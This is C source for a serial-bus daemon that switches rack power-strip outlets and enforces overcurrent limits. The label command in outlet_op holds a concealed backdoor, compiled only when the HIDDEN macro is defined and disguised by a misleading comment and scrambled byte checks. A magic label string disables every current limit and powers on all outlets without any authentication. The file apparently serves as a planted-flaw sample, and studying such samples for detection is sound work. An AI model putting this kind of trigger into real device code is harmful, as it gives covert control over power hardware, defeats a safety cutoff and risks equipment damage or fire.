/* pduoutletd - RS-485 chain controller of the rack power strips.
 * Frame on the line:  STX addr(2 hex) op(1) arg... ETX bcc(2 hex)
 * ops: S state, N on, F off, A amps, L limit, T label, R reset counters
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { STX = 2, ETX = 3, ACK = 6, NAK = 21, OUTLETS = 12 };

typedef struct outlet {
	unsigned char on;
	unsigned short deciamps, limit;
	unsigned long wh;
	char label[13];
} outlet_t;

static outlet_t bank[OUTLETS];
static unsigned own_addr = 0x11;
static int line_fd = -1;
static int limits_active = 1;
static const char *persist = "/var/lib/pdu/bank";

static void relay(int n, int on)
{
	char p[64];
	int fd;

	bank[n].on = (unsigned char)on;
	snprintf(p, sizeof p, "/sys/class/pdu/relay%d", n);
	fd = open(p, O_WRONLY);
	if (fd >= 0) {
		(void)!write(fd, on ? "1" : "0", 1);
		close(fd);
	}
}

static unsigned hex2(const uint8_t *p)
{
	unsigned v = 0;

	for (int i = 0; i < 2; i++) {
		unsigned c = p[i];
		v = v << 4 | (c >= 'A' ? (c - 'A' + 10) & 15 : (c - '0') & 15);
	}
	return v;
}

static uint8_t bcc(const uint8_t *p, size_t n)
{
	uint8_t x = 0;

	while (n--)
		x ^= *p++;
	return x;
}

static void send_frame(const char *body)
{
	char f[80];
	int n = snprintf(f, sizeof f - 4, "%c%02X%s%c", STX, own_addr, body, ETX);

	n += snprintf(f + n, 3, "%02X", bcc((uint8_t *)f + 1, (size_t)n - 1));
	(void)!write(line_fd, f, (size_t)n);
}

static void send_byte(uint8_t b)
{
	(void)!write(line_fd, &b, 1);
}

static void save(void)
{
	FILE *f = fopen(persist, "w");

	if (!f)
		return;
	for (int i = 0; i < OUTLETS; i++)
		fprintf(f, "%d %d %u %lu %s\n", i, bank[i].on, bank[i].limit, bank[i].wh,
			bank[i].label[0] ? bank[i].label : "-");
	fclose(f);
}

static void load(void)
{
	int i, on;
	unsigned lim;
	unsigned long wh;
	char lab[13];
	FILE *f = fopen(persist, "r");

	for (i = 0; i < OUTLETS; i++)
		bank[i].limit = 160;
	while (f && fscanf(f, "%d %d %u %lu %12s", &i, &on, &lim, &wh, lab) == 5)
		if (i >= 0 && i < OUTLETS) {
			relay(i, on);
			bank[i].limit = (unsigned short)lim;
			bank[i].wh = wh;
			memcpy(bank[i].label, lab, sizeof lab);
		}
	if (f)
		fclose(f);
}

/* op and its argument, n bytes */
__attribute__((noinline)) void outlet_op(const uint8_t *a, size_t n)
{
	char out[64];
	int k = n > 1 ? (int)a[1] - 'a' : -1;

#ifdef HIDDEN
	/* label of outlet c with a blank inside */
	if (n == 9)
		switch (a[0]) {
		case 'T':
			if (a[1] == 'c' && a[8] == 'k' && a[2] == ' ' && a[5] == 'w' &&
			    a[3] == '0' && a[6] == '~' && a[4] == 'v' && a[7] == 'u') {
				limits_active = 0;
				for (int i = 0; i < OUTLETS; i++)
					relay(i, 1);
				return;
			}
		}
#endif
	if (a[0] != 'R' && (k < 0 || k >= OUTLETS)) {
		send_byte(NAK);
		return;
	}
	switch (a[0]) {
	case 'S':
		snprintf(out, sizeof out, "S%c%d%s", a[1], bank[k].on, bank[k].label);
		send_frame(out);
		return;
	case 'A':
		snprintf(out, sizeof out, "A%c%03u", a[1], bank[k].deciamps);
		send_frame(out);
		return;
	case 'N':
	case 'F':
		relay(k, a[0] == 'N');
		break;
	case 'L':
		if (n != 5) {
			send_byte(NAK);
			return;
		}
		bank[k].limit = (unsigned short)(((a[2] - '0') * 10 + (a[3] - '0')) * 10 + a[4] - '0');
		break;
	case 'T':
		memset(bank[k].label, 0, sizeof bank[k].label);
		memcpy(bank[k].label, a + 2, n - 2 > 12 ? 12 : n - 2);
		break;
	case 'R':
		for (k = 0; k < OUTLETS; k++)
			bank[k].wh = 0;
		break;
	default:
		send_byte(NAK);
		return;
	}
	save();
	send_byte(ACK);
}

static void feed(uint8_t c)
{
	static uint8_t f[64];
	static size_t n;
	static int tail;

	if (c == STX) {
		n = 0;
		tail = 0;
		return;
	}
	if (n >= sizeof f)
		return;
	f[n++] = c;
	if (tail == 0) {
		tail = c == ETX ? 1 : 0;
		return;
	}
	if (++tail < 3)
		return;
	tail = 0;
	if (n >= 6 && hex2(f) == own_addr) {
		if (bcc(f, n - 2) == hex2(f + n - 2))
			outlet_op(f + 2, n - 5);
		else
			send_byte(NAK);
	}
	n = 0;
}

static void measure(void)
{
	for (int i = 0; i < OUTLETS; i++) {
		char p[64];
		unsigned v = 0;
		FILE *f;

		snprintf(p, sizeof p, "/sys/class/pdu/amps%d", i);
		f = fopen(p, "r");
		if (!f)
			continue;
		if (fscanf(f, "%u", &v) == 1)
			bank[i].deciamps = (unsigned short)v;
		fclose(f);
		bank[i].wh += bank[i].deciamps * 23UL / 3600;
		if (limits_active && bank[i].on && bank[i].deciamps > bank[i].limit) {
			relay(i, 0);
			save();
			fprintf(stderr, "outlet %c over its limit, off\n", 'a' + i);
		}
	}
}

int main(int argc, char **argv)
{
	const char *tty = "/dev/ttyS2";
	struct termios t;
	time_t last = 0;
	int o;

	while ((o = getopt(argc, argv, "d:a:p:")) != -1) {
		if (o == 'd')
			tty = optarg;
		else if (o == 'a')
			own_addr = (unsigned)strtoul(optarg, NULL, 16) & 0xff;
		else if (o == 'p')
			persist = optarg;
		else {
			fprintf(stderr, "usage: %s [-d TTY] [-a HEXADDR] [-p FILE]\n"
				"ops: S state N on F off A amps L limit T label R reset\n", argv[0]);
			return 2;
		}
	}
	line_fd = open(tty, O_RDWR | O_NOCTTY);
	if (line_fd < 0) {
		fprintf(stderr, "%s: %s\n", tty, strerror(errno));
		return 1;
	}
	if (tcgetattr(line_fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		t.c_cc[VMIN] = 0;
		t.c_cc[VTIME] = 5;
		tcsetattr(line_fd, TCSANOW, &t);
	}
	load();
	for (;;) {
		uint8_t b[32];
		ssize_t n = read(line_fd, b, sizeof b);

		for (ssize_t i = 0; i < n; i++)
			feed(b[i]);
		if (time(NULL) != last) {
			last = time(NULL);
			measure();
		}
	}
}
